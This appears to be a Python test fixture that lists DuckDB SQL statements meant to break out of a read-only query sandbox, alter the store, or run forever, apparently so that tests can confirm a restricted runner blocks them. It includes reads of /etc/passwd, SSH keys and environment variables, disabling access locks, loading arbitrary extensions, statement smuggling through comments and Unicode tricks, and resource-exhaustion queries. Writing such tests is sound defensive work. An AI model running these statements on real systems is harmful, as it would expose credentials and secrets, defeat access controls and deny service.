"""Statements that try to get out of the sandbox, to change something, or never to end.

`{store}` stands for the folder of the store.
"""

CHANGES = """\
COPY clips TO '{store}/../out.csv'
COPY (SELECT 1) TO '{store}/tables/clips/corpus=a/part-x.parquet' (FORMAT parquet)
COPY clips FROM '/etc/passwd'
EXPORT DATABASE '{store}/../out'
IMPORT DATABASE '{store}/../out'
ATTACH '/tmp/other.duckdb'
ATTACH '/tmp/other.sqlite' (TYPE sqlite)
ATTACH 'https://example.org/db.duckdb' AS remote
ATTACH ':memory:' AS more
DETACH memory
USE memory
INSTALL httpfs
FORCE INSTALL httpfs FROM 'http://example.org'
LOAD httpfs
LOAD '/tmp/evil.duckdb_extension'
UPDATE EXTENSIONS
PRAGMA database_list
PRAGMA version
PRAGMA enable_profiling
PRAGMA import_database('{store}/../out')
SET memory_limit = '100GB'
SET enable_external_access = true
SET lock_configuration = false
SET allowed_directories = ['/']
SET GLOBAL http_proxy = 'http://example.org'
SET VARIABLE x = 1
RESET enable_external_access
CALL pragma_version()
CALL enable_logging()
CREATE TABLE t (i INTEGER)
CREATE TEMP TABLE t AS SELECT 1
CREATE VIEW clips AS SELECT 1
CREATE OR REPLACE VIEW clips AS SELECT * FROM read_text('/etc/passwd')
CREATE MACRO m() AS TABLE SELECT * FROM read_text('/etc/passwd')
CREATE SECRET s (TYPE s3, KEY_ID 'a', SECRET 'b')
CREATE PERSISTENT SECRET s (TYPE http)
CREATE SEQUENCE s
CREATE SCHEMA s
CREATE TYPE t AS ENUM ('a')
DROP VIEW clips
DROP TABLE IF EXISTS clips CASCADE
ALTER VIEW clips RENAME TO c
INSERT INTO clips SELECT * FROM clips
UPDATE clips SET gloss = 'X'
DELETE FROM clips
TRUNCATE clips
MERGE INTO clips USING clips c ON true WHEN MATCHED THEN DELETE
CHECKPOINT
FORCE CHECKPOINT
VACUUM
ANALYZE
BEGIN TRANSACTION
COMMIT
ROLLBACK
PREPARE p AS SELECT * FROM read_text('/etc/passwd')
EXECUTE p
DEALLOCATE p
EXPLAIN SELECT * FROM read_text('/etc/passwd')
EXPLAIN ANALYZE SELECT 1
COMMENT ON VIEW clips IS 'x'
SELECT 1; COPY clips TO '{store}/../out.csv'
SELECT 1 /* ; */; /* */ INSTALL httpfs
SELECT 1; --\rSET enable_external_access = true
WITH x AS (INSERT INTO clips SELECT * FROM clips RETURNING *) SELECT * FROM x
WITH x AS (DELETE FROM clips RETURNING *) SELECT * FROM x
WITH x AS (UPDATE clips SET gloss = 'X' RETURNING *) SELECT * FROM x
PIVOT clips ON gloss USING count(*)
""".strip().split("\n")

READS = """\
FROM '/etc/passwd'
FROM "/etc/passwd"
SELECT * FROM '/etc/passwd.csv'
SELECT * FROM 'file:///etc/passwd'
SELECT * FROM '../../etc/passwd'
SELECT * FROM '~/.ssh/id_rsa'
SELECT * FROM 'https://example.org/x.parquet'
SELECT * FROM 's3://bucket/x.parquet'
SELECT * FROM 'hf://datasets/x/y.parquet'
SELECT * FROM '{store}/tables/clips/**/*.parquet'
SELECT * FROM '{store}/store.json'
SELECT * FROM read_text('{store}/tables/corpora/../../store.json')
SELECT * FROM read_text('{store}/tables/corpora/../clips/corpus=a/part-one.parquet')
SELECT * FROM read_text('/etc/passwd')
SELECT * FROM read_text('{store}/store.json')
SELECT * FROM read_blob('/etc/passwd')
SELECT * FROM read_blob('{store}/media/**')
SELECT * FROM read_csv('/etc/passwd')
SELECT * FROM read_csv_auto(['/etc/passwd'])
SELECT * FROM read_parquet('{store}/tables/clips/**/*.parquet')
SELECT * FROM parquet_scan('{store}/tables/clips/**/*.parquet')
SELECT * FROM parquet_metadata('{store}/tables/clips/**/*.parquet')
SELECT * FROM parquet_kv_metadata('{store}/tables/clips/**/*.parquet')
SELECT * FROM parquet_schema('{store}/tables/clips/**/*.parquet')
SELECT * FROM parquet_file_metadata('{store}/tables/clips/**/*.parquet')
SELECT * FROM parquet_full_metadata('{store}/tables/clips/**/*.parquet')
SELECT * FROM parquet_bloom_probe('{store}/tables/clips/**/*.parquet', 'gloss', 'X')
SELECT * FROM read_json('/etc/passwd')
SELECT * FROM read_ndjson_objects('/proc/self/environ')
SELECT * FROM read_json_auto('https://example.org/x.json')
SELECT * FROM sniff_csv('/etc/passwd')
SELECT * FROM read_duckdb('/tmp/x.duckdb')
SELECT * FROM glob('/*')
SELECT * FROM query('SELECT * FROM read_text(''/etc/passwd'')')
SELECT * FROM query_table('duckdb_views')
SELECT * FROM query_table(['clips', '/etc/passwd'])
SELECT * FROM histogram('duckdb_views', 'sql')
SELECT * FROM json_execute_serialized_sql(json_serialize_sql('SELECT 1'))
SELECT * FROM seq_scan('clips')
SELECT * FROM arrow_scan(1, 2, 3)
SELECT * FROM pandas_scan(1)
SELECT * FROM which_secret('s3://x', 's3')
SELECT * FROM duckdb_secrets()
SELECT * FROM duckdb_settings()
SELECT * FROM duckdb_views()
SELECT * FROM duckdb_views
SELECT * FROM duckdb_logs
SELECT * FROM duckdb_extensions()
SELECT * FROM duckdb_external_file_cache()
SELECT * FROM enable_logging()
SELECT * FROM checkpoint()
SELECT * FROM pragma_version()
SELECT * FROM pragma_table_info('clips')
SELECT * FROM sqlite_master
SELECT * FROM information_schema.tables
SELECT * FROM pg_catalog.pg_views
SELECT * FROM system.main.duckdb_views
SELECT * FROM memory.information_schema.columns
SELECT getenv('HOME')
SELECT current_setting('secret_directory')
SELECT current_setting('allowed_directories')
SELECT current_query()
SELECT pg_get_viewdef(1)
SELECT pg_catalog.pg_get_viewdef(1)
SELECT 'secret_directory'.current_setting()
SELECT list_transform(['HOME'], x -> getenv(x))
SELECT nextval('s')
SELECT write_log('x')
SELECT sleep_ms(1000000)
SELECT pg_sleep(1000000)
SELECT json_serialize_plan('SELECT * FROM clips')
SELECT (SELECT content FROM read_text('/etc/passwd'))
SELECT 1 WHERE EXISTS (FROM read_text('/etc/passwd'))
SELECT * FROM clips, LATERAL (SELECT * FROM read_text(clips.source))
SELECT gloss FROM clips UNION ALL SELECT content FROM read_text('/etc/passwd')
SELECT gloss FROM clips ORDER BY (SELECT content FROM read_text('/etc/passwd'))
SELECT gloss FROM clips LIMIT (SELECT length(content) FROM read_text('/etc/passwd'))
SELECT * FROM clips QUALIFY row_number() OVER (ORDER BY current_setting('threads')) = 1
WITH duckdb_views AS (SELECT * FROM duckdb_views) SELECT * FROM duckdb_views
SELECT * FROM (WITH duckdb_views AS (SELECT 1) FROM duckdb_views), duckdb_views
WITH "/etc/passwd" AS (FROM "/etc/passwd") FROM "/etc/passwd"
WITH a AS (FROM b), b AS (SELECT 1) FROM a
PIVOT (FROM read_text('/etc/passwd')) ON size IN (1) USING count(*)
DESCRIBE SELECT * FROM read_csv('/etc/passwd')
DESCRIBE '/etc/passwd'
SUMMARIZE '/etc/passwd'
SHOW DATABASES
SHOW threads
SELECT * FROM (SHOW DATABASES)
FROM job
FROM connection
SELECT * FROM \uff43\uff4c\uff49\uff50\uff53
SELECT\u00a0* FROM\u2028'/etc/passwd'
SELECT\u202e* FROM duckdb_views
SELECT * FROM read\u200b_text('/etc/passwd')
SELECT * FROM CLIPS NATURAL JOIN Read_Text('/etc/passwd')
""".strip().split("\n")

ODD = [
    "",
    " ;; -- nothing",
    "\0SELECT 1",
    "SELECT '\0'; SELECT 2",
    "selec 1",
    "SELECT",
    "SELECT * FROM clips WHERE gloss = 'X",
    "SELECT nope FROM clips",
    "SELECT 1 / 'x'",
    "SELECT $1",
    "SELECT " + "(" * 5_000 + "1" + ")" * 5_000,
    "SELECT " + "-" * 3 + "1",
    "SELECT " + "[" * 900 + "]" * 900,
    "SELECT " + "+".join(["1"] * 20_000),
    "FROM (" * 900 + "SELECT 1" + ")" * 900,
    "SELECT error('/etc/passwd')",
]

LONG = "repeat('a', 9999) || range"
CATASTROPHE = "(a*)*(a|aa)+(a{1,50}){1,20}b$"

GREEDY = [
    "WITH RECURSIVE r AS (SELECT 1 n UNION ALL SELECT n + 1 FROM r) SELECT count(*) FROM r",
    "WITH RECURSIVE r AS (SELECT 1 n UNION ALL SELECT a.n FROM r a, r b, range(9) c) FROM r",
    "SELECT count(*) FROM range(1000000000000000000) a, range(1000000000000000000) b",
    "SELECT sum(a.range * b.range) FROM generate_series(1, 10000000000) a(range), range(9) b",
    "SELECT count(DISTINCT hash(i)) FROM range(10000000000) t(i)",
    "SELECT length(repeat('x', 10000000000))",
    "SELECT repeat('x', 3000000)",
    "SELECT repeat(repeat('x', 1000000), 1000)",
    "SELECT string_agg(repeat('x', 1000)) FROM range(100000000)",
    f"SELECT count(*) FROM range(1000000000) WHERE regexp_matches({LONG}, '{CATASTROPHE}')",
    "SELECT lpad('x', 2000000000, 'y')",
    "SELECT unnest(range(2000000000)) ORDER BY random()",
]
